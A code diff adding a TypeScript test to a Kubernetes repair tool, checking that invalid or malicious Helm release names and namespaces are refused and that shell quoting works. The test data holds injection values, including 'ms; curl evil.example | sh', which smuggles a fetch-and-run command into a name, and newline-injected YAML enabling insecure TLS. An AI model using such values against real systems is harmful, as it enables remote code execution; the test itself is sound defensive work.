@@ -7,6 +7,7 @@ import { applyTextEdits } from '../../../src/core/text/edits';
 import { metricsServerContainers, setFlagEdits } from '../../../src/core/k8s/metricsServer';
 import { parseFile } from '../../../src/core/manifest/model';
 import { unifiedDiff } from '../../../src/core/doctor/apply';
+import { shellQuote } from '../../../src/core/doctor/repairKit/metricsServerFlag';
 import { planRepair, RepairRefusedError } from '../../../src/core/doctor/repairs/index';
 import { kc, metricsServer, dns, container, useFakeApiServer } from './helpers';
 
@@ -97,6 +98,34 @@ describe('metrics-server-address-types', () => {
     });
     assert.match(plan.helm!.valuesChange, /helm upgrade ms metrics-server\/metrics-server --namespace monitoring --reuse-values/);
     assert.equal(unifiedDiff(plan), '');
+  });
+
+  test('Helm-managed with a release name or namespace Helm would not accept: refused, nothing of it in a values file or command (issue 11 item 20)', async () => {
+    for (const [release, namespace] of [
+      ['ms\ndefaultArgs: [--kubelet-insecure-tls]', 'monitoring'],
+      ['ms; curl evil.example | sh', 'monitoring'],
+      ['x'.repeat(54), 'monitoring'],
+      ['Ms', 'monitoring'],
+      ['ms', 'monitoring\nargs: [--kubelet-insecure-tls]'],
+    ]) {
+      metricsServer(
+        { args: ['--kubelet-preferred-address-types=Hostname'] },
+        { labels: { 'app.kubernetes.io/managed-by': 'Helm' }, annotations: { 'meta.helm.sh/release-name': release, 'meta.helm.sh/release-namespace': namespace } },
+      );
+      await assert.rejects(
+        planRepair(kc, dns, 'metrics-server-address-types'),
+        (e: Error) => e instanceof RepairRefusedError && /not a valid Helm release (name|namespace)/.test(e.message) && !e.message.includes('\n'),
+        JSON.stringify([release, namespace]),
+      );
+    }
+    // 53 characters with dots is what Helm accepts (pkg/chartutil/validate_name.go): planned, quoted where a shell reads it.
+    const long = `a.${'b'.repeat(49)}-c`;
+    metricsServer({ args: ['--kubelet-preferred-address-types=Hostname'] }, { annotations: { 'meta.helm.sh/release-name': long, 'meta.helm.sh/release-namespace': 'monitoring' } });
+    const plan = await planRepair(kc, dns, 'metrics-server-address-types');
+    assert.equal(plan.helm?.release, long);
+    assert.deepEqual(Object.keys(parse(plan.helm!.valuesChange)), ['defaultArgs', 'args']);
+    assert.equal(shellQuote("it's here"), `'it'\\''s here'`);
+    assert.equal(shellQuote('ms'), 'ms');
   });
 
   test('unified diff of the plan, as the CLI prints it', async () => {
